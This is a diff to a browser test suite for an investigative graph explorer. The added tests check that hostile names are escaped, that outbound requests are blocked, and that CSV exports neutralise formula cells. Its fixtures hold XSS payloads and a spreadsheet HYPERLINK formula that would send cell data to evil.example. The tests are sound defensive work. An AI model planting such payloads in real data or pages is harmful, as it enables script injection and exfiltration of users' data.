@@ -4,7 +4,11 @@ One investigator's session on the demo graph plus a hostile case file: open the 
 an entity, open its network, run a saved query, open the Dutch-link page on a case whose
 evidence passes a person named ``<img src=x onerror=alert(1)>``. Proves what AppTest cannot:
 the pyvis iframe draws a canvas, tooltips are HTML with case-file text escaped, and hostile
-text shows as text and runs nothing (no dialog, no injected element). Screenshots go to
+text shows as text and runs nothing (no dialog, no injected element, no address in a name
+turned into a link). Every request the browser makes is recorded: one that leaves the
+explorer's own host (a favicon from fonts.gstatic.com, a script from a CDN) fails the test,
+as it would tell a third party what is viewed and break an air-gapped install. Tables offer
+no built-in download: the logged Export step is the only way out. Screenshots go to
 ``build/test-artifacts/browser/`` (or ``DISMARK_TEST_ARTIFACTS``) for a person to look at.
 
 Off CI a machine without /usr/bin/chromium skips; on CI (``CI`` set) a missing browser fails.
@@ -40,6 +44,10 @@ STARTUP_S = 60
 WAIT_MS = 60_000
 HOSTILE = "<img src=x onerror=alert(1)>"
 HOSTILE_GROUP = '"><svg onload=alert(2)>'
+#: a name holding bare addresses, which markdown would turn into links of its own
+LINKED = "Bas http://evil.example/x www.evil.example bas@evil.example"
+#: a name a spreadsheet would run as a formula, listed by the vulnerable-persons query
+FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"open")'
 #: A Belgian case file whose plantation is run by the hostile person, who calls a Dutch grower
 #: of the demo: the plantation gets a Dutch-link evidence path through the hostile name.
 HOSTILE_DOSSIER = f"""
@@ -53,7 +61,12 @@ entities:
   - {{type: Plantation, id: plantation-be-hostile-2023, properties: {{plant_count: 800,
       country: BE}}}}
   - {{type: Person, id: person-jeroen-vos, properties: {{name: Jeroen Vos}}}}
+  - {{type: Person, id: person-be-linked, properties: {{name: "{LINKED}"}}}}
+  - {{type: Person, id: person-be-formula, properties: {{name: '{FORMULA}', vulnerable: true,
+      residence_country: BE}}}}
 links:
+  - {{type: CONTACT, source: person-be-linked, target: person-be-hostile,
+      properties: {{kind: call, count: 2}}, date: 2023-04-12, grading: B2}}
   - {{type: OPERATES, source: person-be-hostile, target: plantation-be-hostile-2023}}
   - {{type: MEMBER_OF, source: person-be-hostile, target: org-be-hostile}}
   - {{type: CONTACT, source: person-be-hostile, target: person-jeroen-vos,
@@ -96,12 +109,11 @@ def explorer(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
     report = load_paths(store, [cases], load_ontology())
     assert report.exit_code == 0, report.as_dict()
     port, log = free_port(), folder / "streamlit.log"
-    env = {**os.environ, "DISMARK_STORE": store.url}
-    with open(log, "wb") as out:
+    # admin: the tests visit every page, Load included (the local default is analyst)
+    env = {**os.environ, "DISMARK_STORE": store.url, "DISMARK_LOCAL_ROLE": "admin"}
+    with open(log, "wb") as out:  # the address, data export etc. from .streamlit/config.toml
         server = subprocess.Popen(
-            [sys.executable, "-m", "streamlit", "run", "app.py", "--server.headless", "true",
-             "--server.port", str(port), "--server.address", "127.0.0.1",
-             "--browser.gatherUsageStats", "false"],
+            [sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(port)],
             cwd=REPO, env=env, stdout=out, stderr=subprocess.STDOUT)
     try:
         base = f"http://127.0.0.1:{port}"
@@ -117,9 +129,23 @@ def explorer(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
         store.close()
 
 
+#: where the browser may go: the explorer itself, and what it makes in the page
+LOCAL_HOSTS = {"127.0.0.1", "localhost"}
+LOCAL_SCHEMES = {"data", "blob", "about"}
+
+
+def leaving(urls: list[str]) -> list[str]:
+    """The requests that left this machine's explorer."""
+    from urllib.parse import urlsplit
+
+    return [url for url in urls if urlsplit(url).scheme not in LOCAL_SCHEMES
+            and urlsplit(url).hostname not in LOCAL_HOSTS]
+
+
 @pytest.fixture
 def page(explorer: str) -> Iterator:
-    """A fresh Chromium tab; any JavaScript dialog (an XSS's alert) fails the test."""
+    """A fresh Chromium tab; any JavaScript dialog (an XSS's alert) fails the test, and so
+    does any request to a host other than the explorer's (every request is recorded)."""
     if not CHROMIUM.exists():
         pytest.fail(f"{CHROMIUM} is missing on CI: apt-get install chromium")
     from playwright.sync_api import sync_playwright
@@ -130,20 +156,33 @@ def page(explorer: str) -> Iterator:
     with sync_playwright() as playwright:
         browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
         try:
-            tab = browser.new_page(viewport={"width": 1400, "height": 1300})
+            context = browser.new_context(viewport={"width": 1400, "height": 1300})
+            requests: list[str] = []
+            context.on("request", lambda r: requests.append(r.url))  # frames and workers too
+            tab = context.new_page()
             tab.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
-            tab.base, tab.shots = explorer, shots
+            tab.base, tab.shots, tab.requests = explorer, shots, requests
             yield tab
             assert dialogs == [], f"a script ran: {dialogs}"
+            assert requests, "no request was recorded"
+            assert leaving(requests) == [], f"requests left the machine: {leaving(requests)}"
         finally:
             browser.close()
+
+
+def answer_who_and_why(page) -> None:
+    """The first screen, as a user fills it: a name (never pre-filled) and a purpose."""
+    name = page.get_by_role("textbox", name="Your name or user id")
+    assert name.input_value(timeout=WAIT_MS) == ""
+    name.fill("browser-test")
+    page.get_by_role("textbox", name="Purpose").fill("browser test of the explorer")
+    page.get_by_role("button", name="Continue").click()
 
 
 def open_view(page, path: str = "") -> None:
     """Go to ``path`` in a new session, answering the who-and-why form as a user would."""
     page.goto(f"{page.base}/{path}")
-    page.get_by_role("textbox", name="Purpose").fill("browser test of the explorer")
-    page.get_by_role("button", name="Continue").click()
+    answer_who_and_why(page)
 
 
 def drawn_network(page):
@@ -180,9 +219,11 @@ def hover_node(page, frame, label: str) -> str:
 
 
 def no_injected_markup(page) -> None:
-    """No element the hostile names would create exists in the page or its frames."""
+    """No element the hostile names would create exists in the page or its frames, and no
+    link to an address written in a name."""
     for frame in page.frames:
         assert frame.locator("img[src='x'], svg[onload]").count() == 0, frame.url
+        assert frame.locator("a[href*='evil.example']").count() == 0, frame.url
 
 
 def test_search_then_network_of_the_match(page) -> None:
@@ -190,8 +231,7 @@ def test_search_then_network_of_the_match(page) -> None:
     page.get_by_role("heading", name="DISMARK explorer").wait_for(timeout=WAIT_MS)
     screenshot(page, "00-who-and-why.png")  # nothing of the graph before it is answered
     assert page.get_by_role("heading", name="Overview").count() == 0
-    page.get_by_role("textbox", name="Purpose").fill("browser test of the explorer")
-    page.get_by_role("button", name="Continue").click()
+    answer_who_and_why(page)
     page.get_by_role("heading", name="Overview").wait_for(timeout=WAIT_MS)
     screenshot(page, "01-overview.png")
 
@@ -266,3 +306,60 @@ def test_every_page_opens_in_the_browser_without_an_error(page) -> None:
         assert page.locator("[data-testid='stException']").count() == 0, url_path
         assert page.locator("[data-testid='stAlertContentError']").count() == 0, url_path
     no_injected_markup(page)
+
+
+def test_a_name_holding_addresses_shows_as_text(page) -> None:
+    """A bare http://…, www.… or e-mail address in a name is no link on any view of it."""
+    open_view(page, "?entity=person-be-linked")
+    heading = page.get_by_role("heading").filter(has_text="Bas http")
+    heading.wait_for(timeout=WAIT_MS)
+    assert "http://" in heading.inner_text() and "evil.example" in heading.inner_text()
+    drawn_network(page)
+    no_injected_markup(page)
+    open_view(page, "search?q=evil.example")
+    page.get_by_text("Best match:").wait_for(timeout=WAIT_MS)
+    assert "evil.example" in page.get_by_text("Best match:").inner_text()
+    no_injected_markup(page)
+    screenshot(page, "08-linked-name.png")
+
+
+def test_tables_offer_no_download_of_their_own(page) -> None:
+    """The only way to take rows away is the Export step, logged and neutralised: a table's
+    toolbar has no "Download as CSV"."""
+    open_view(page)
+    table = page.locator("[data-testid='stDataFrame']").first
+    table.wait_for(timeout=WAIT_MS)
+    table.hover()
+    page.wait_for_timeout(500)
+    screenshot(page, "09-table-toolbar.png")
+    assert page.get_by_role("button", name="Download as CSV").count() == 0
+    assert page.locator("[data-testid='stElementToolbar'] button").filter(
+        has_text="Download").count() == 0
+
+
+def test_the_export_step_neutralises_formula_cells(page) -> None:
+    """The one way out for a query's rows: Export (logged) then Download CSV, whose cells a
+    spreadsheet would run as formulas come out as text."""
+    import csv
+
+    open_view(page, "?query=vulnerable-persons")
+    page.get_by_role("button", name="Run").click()
+    page.get_by_role("button", name="Export (CSV, GraphML)").click()
+    with page.expect_download(timeout=WAIT_MS) as download:
+        page.get_by_role("button", name="Download CSV").click()
+    text = Path(download.value.path()).read_text(encoding="utf-8-sig")
+    rows = list(csv.DictReader(text.splitlines()))
+    names = {row["person"]: row["name"] for row in rows}
+    assert names["person-be-formula"] == "'" + FORMULA
+    assert not [cell for row in rows for cell in row.values() if cell.startswith("=")]
+
+
+def test_through_a_proxy_local_mode_lets_nobody_in(page) -> None:
+    """A reverse proxy in front of the loopback-bound explorer makes it reachable from
+    elsewhere: a request that says it was forwarded gets the configuration message only."""
+    page.context.set_extra_http_headers({"X-Forwarded-For": "203.0.113.7"})
+    page.goto(page.base)
+    page.get_by_text("can be reached from beyond this machine").wait_for(timeout=WAIT_MS)
+    assert page.get_by_role("textbox").count() == 0
+    assert page.get_by_role("button", name="Continue").count() == 0
+    screenshot(page, "10-through-a-proxy.png")
